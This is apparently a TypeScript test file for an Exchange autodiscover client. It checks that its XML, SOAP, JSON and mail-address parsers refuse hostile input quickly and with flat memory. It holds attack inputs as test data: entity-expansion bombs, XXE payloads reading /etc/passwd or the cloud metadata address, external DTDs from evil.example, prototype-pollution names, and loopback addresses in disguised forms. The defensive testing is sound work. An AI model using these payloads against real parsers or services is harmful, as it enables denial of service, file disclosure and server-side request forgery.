import { describe, expect, it } from 'vitest';
import { parseMailAddress } from './autodiscover/mail-address.ts';
import { pox } from './autodiscover/pox.ts';
import { soap } from './autodiscover/soap.ts';
import { readV2 } from './autodiscover/v2.ts';
import { poxAnswer, poxSettings, soapAnswer, soapSettings } from './scripted-exchange.contract.ts';
import { registrableDomain } from './scripted-internet.contract.ts';
import { readXml } from './xml/read-xml.ts';

const MIB = 1024 * 1024;
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Runs it some times; it may take neither long nor memory that stays. The quickest counts: other processes may want the processor too. */
function flat<T>(work: () => T): T {
  let result = work();
  const before = process.memoryUsage();
  let quickestMs = Infinity;
  for (let times = 0; times < 5; times += 1) {
    const start = performance.now();
    result = work();
    quickestMs = Math.min(quickestMs, performance.now() - start);
  }
  expect(quickestMs).toBeLessThan(50);
  expect(process.memoryUsage().rss - before.rss).toBeLessThan(64 * MIB);
  return result;
}

const LAUGHS = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, index) => `<!ENTITY ${String.fromCharCode(98 + index)} "${`&${String.fromCharCode(97 + index)};`.repeat(10)}">`).join('')}]><l>&u;</l>`;
const settings = poxSettings('https://mail.corp.example/EWS/Exchange.asmx').body ?? '';
const declared = (encoding: string): Uint8Array => bytes(settings.replace('utf-8', encoding));

describe('a hostile document is refused, in no time and with memory flat', () => {
  it.each<[string, Uint8Array]>([
    ['a billion laughs (J01)', bytes(LAUGHS)],
    ['quadratic entities (J01)', bytes(`<!DOCTYPE l [<!ENTITY a "${'x'.repeat(50_000)}">]><l>${'&a;'.repeat(50_000)}</l>`)],
    ['a file as an entity (J01)', bytes('<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>')],
    ['an address as an entity (J01)', bytes('<!DOCTYPE l [<!ENTITY x SYSTEM "http://169.254.169.254/">]><l>&x;</l>')],
    ['parameter entities (J01)', bytes('<!DOCTYPE l [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><l/>')],
    ['a document type of elsewhere (J01)', bytes('<!DOCTYPE l SYSTEM "http://evil.example/x.dtd"><l/>')],
    ['a document type in small letters', bytes('<!doctype html><html></html>')],
    ['a document type behind a comment', bytes('<!-- x --><!DOCTYPE l><l/>')],
    ['an entity that nobody declared', bytes('<l>&x;</l>')],
    ['depth without end (J02)', bytes('<a>'.repeat(80_000))],
    ['depth with an end (J02)', bytes(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`.slice(0, MIB / 4))],
    ['attributes by the thousand (J02)', bytes(`<a ${Array.from({ length: 25_000 }, (_, index) => `a${index}=""`).join(' ')}/>`)],
    ['elements by the thousand (J02)', bytes(`<a>${'<b/>'.repeat(60_000)}</a>`)],
    ['20 MB of text (J02)', new Uint8Array(20 * MIB).fill(0x61)],
    ['a text of 20 MB in an element (J02)', bytes(`<a>${'x'.repeat(20 * MIB)}</a>`)],
    ['a name as long as a document may be', bytes(`<${'a'.repeat(MIB / 4 - 10)}`)],
    ['an attribute twice', bytes('<a b="1" b="2"/>')],
    ['a prefix of nothing', bytes('<x:a/>')],
    ['UTF-16 (J04)', new Uint8Array([0xff, 0xfe, ...Buffer.from('<a/>', 'utf16le')])],
    ['UTF-16 as it says of itself (J04)', declared('utf-16')],
    ['UTF-7 as it says of itself (J04)', declared('utf-7')],
    ['EBCDIC as it says of itself (J04)', declared('ebcdic-cp-us')],
    ['bytes that are no UTF-8 (J04)', new Uint8Array([...bytes('<a>'), 0xc3, 0x28, ...bytes('</a>')])],
    ['a zero byte (J04)', bytes('<a>\0</a>')],
    ['a reference to a character that there is none of', bytes('<a>&#0;</a>')],
    ['a comment in a value (J05)', bytes('<a>https://mail.corp<!-- x -->.example</a>')],
    ['a processing instruction (J05)', bytes('<a><?php x ?></a>')],
    ['a stylesheet', bytes('<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x"?><a/>')],
    ['an end that does not come (J06)', bytes('<a><b></a>')],
    ['two roots (J06)', bytes('<a/><b/>')],
    ['text behind the end (J06)', bytes('<a/>x')],
    ['no XML (J06)', bytes('HTTP/1.1 200 OK')],
    ['nothing', bytes('')],
  ])('%s', (_what, document) => {
    expect(flat(() => readXml(document))).toBeUndefined();
  });

  it('while an ordinary one is read, with the names of prototypes as any other (J03)', () => {
    const root = readXml(
      bytes('<?xml version="1.0" encoding="UTF-8"?><a __proto__="x"><constructor>1</constructor><__proto__>2</__proto__></a>'),
    );
    expect([root?.attributes.get('__proto__'), root?.children.map(({ name, text }) => [name, text])]).toEqual([
      'x',
      [
        ['constructor', '1'],
        ['__proto__', '2'],
      ],
    ]);
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });
});

describe('a document that says two things says nothing (J05)', () => {
  const twice = '<EwsUrl>https://evil.example/EWS/Exchange.asmx</EwsUrl>';
  it.each<[string, { body?: string }, object]>([
    [
      'two addresses',
      poxAnswer(`<Action>settings</Action><Protocol><Type>EXPR</Type>${twice}${twice}</Protocol>`),
      { kind: 'settings', ewsUrls: [] },
    ],
    [
      'two actions',
      poxAnswer('<Action>settings</Action><Action>redirectAddr</Action><RedirectAddr>a@b.example</RedirectAddr>'),
      { kind: 'unreadable' },
    ],
    [
      'two redirects',
      poxAnswer('<Action>redirectAddr</Action><RedirectAddr>a@b.example</RedirectAddr><RedirectAddr>c@d.example</RedirectAddr>'),
      { kind: 'unreadable' },
    ],
    [
      'an address with an element in it',
      poxAnswer('<Action>redirectUrl</Action><RedirectUrl>https://a.example<b/></RedirectUrl>'),
      { kind: 'unreadable' },
    ],
    ['another schema', { body: settings.replace('2006a', '2099') }, { kind: 'unreadable' }],
    ['a page', { body: '<html><body/></html>' }, { kind: 'unreadable' }],
  ])('%s, in plain XML', (_what, { body = '' }, expected) => {
    expect(pox.read(bytes(body))).toMatchObject(expected);
  });

  it.each<[string, { body?: string }, object]>([
    [
      'two values of one setting',
      soapAnswer(
        `<ErrorCode>NoError</ErrorCode><UserSettings>${'<UserSetting><Name>ExternalEwsUrl</Name><Value>https://evil.example/EWS/</Value></UserSetting>'.repeat(2)}</UserSettings>`,
      ),
      { kind: 'settings', ewsUrls: [] },
    ],
    ['text of its own in the place of a code', soapAnswer('<ErrorCode>Error &lt;script&gt;</ErrorCode>'), { kind: 'unreadable' }],
    ['a redirect without a target', soapAnswer('<ErrorCode>RedirectUrl</ErrorCode>'), { kind: 'unreadable' }],
    [
      'another namespace',
      { body: (soapSettings('https://x.example/EWS/x').body ?? '').replace('2010/Autodiscover', '2099/Autodiscover') },
      { kind: 'unreadable' },
    ],
  ])('%s, by SOAP', (_what, { body = '' }, expected) => {
    expect(soap.read(bytes(body))).toMatchObject(expected);
  });

  it.each([
    '',
    'null',
    '[]',
    '"x"',
    '{"Url":"https://a.example/"}',
    '{"Protocol":"EWS","Url":1}',
    '{"Protocol":{},"Url":"x"}',
    '['.repeat(60_000),
    '<html>',
  ])('and %.20s is no answer of the form without credentials', (text) => {
    expect(flat(() => readV2(text))).toBeUndefined();
  });
});

describe('a hostile mail address is refused before anybody is asked', () => {
  it.each([
    ['', 'not_an_address'],
    ['ann', 'not_an_address'],
    ['@corp.example', 'not_an_address'],
    ['ann@', 'not_an_address'],
    ['ann@corp.example/x', 'not_an_address'],
    ['ann@corp.example?x=', 'not_an_address'],
    ['ann@corp.example#x', 'not_an_address'],
    ['ann@corp.example:8443', 'not_an_address'],
    ['ann@corp.example\\@evil.example', 'not_an_address'],
    ['ann@evil.example@corp.example', 'not_an_address'],
    ['a\r\nb@corp.example', 'not_an_address'],
    ['ann@corp.exa\tmple', 'not_an_address'],
    ['ann@corp%2eexample', 'not_an_address'],
    ['ann@[127.0.0.1]', 'not_an_address'],
    ['ann@[::1]', 'not_an_address'],
    ['ann@corp..example', 'not_an_address'],
    ['ann@.corp.example', 'not_an_address'],
    ['ann@corp.example.', 'not_an_address'],
    ['"ann smith"@corp.example', 'not_an_address'],
    [`${'a'.repeat(65)}@corp.example`, 'not_an_address'],
    [`ann@${'a.'.repeat(200_000)}example`, 'not_an_address'],
    ['ann@127.0.0.1', 'ip_address'],
    ['ann@127.1', 'ip_address'],
    ['ann@2130706433', 'ip_address'],
    ['ann@0x7f000001', 'ip_address'],
    ['ann@0177.0.0.1', 'ip_address'],
    ['ann@①②⑦.⓪.⓪.①', 'ip_address'],
    ['ann@169.254.169.254', 'ip_address'],
    ['ann@localhost', 'single_label'],
    ['ann@com', 'single_label'],
    ['ann@co.uk', 'no_registrant'],
    ['ann@com.br', 'no_registrant'],
    ['ann@pages.example', 'no_registrant'],
  ])('%.60s', (typed, fault) => {
    expect(flat(() => parseMailAddress(typed, registrableDomain))).toBe(fault);
  });

  it.each([
    [' ann@Corp.Example ', { address: 'ann@Corp.Example', domain: 'corp.example' }],
    ["o'neil+x@sub.corp.co.uk", { address: "o'neil+x@sub.corp.co.uk", domain: 'sub.corp.co.uk' }],
    ['jörg@bücher.example', { address: 'jörg@bücher.example', domain: 'xn--bcher-kva.example' }],
  ])('while %s is one', (typed, expected) => {
    expect(parseMailAddress(typed, registrableDomain)).toEqual(expected);
  });
});
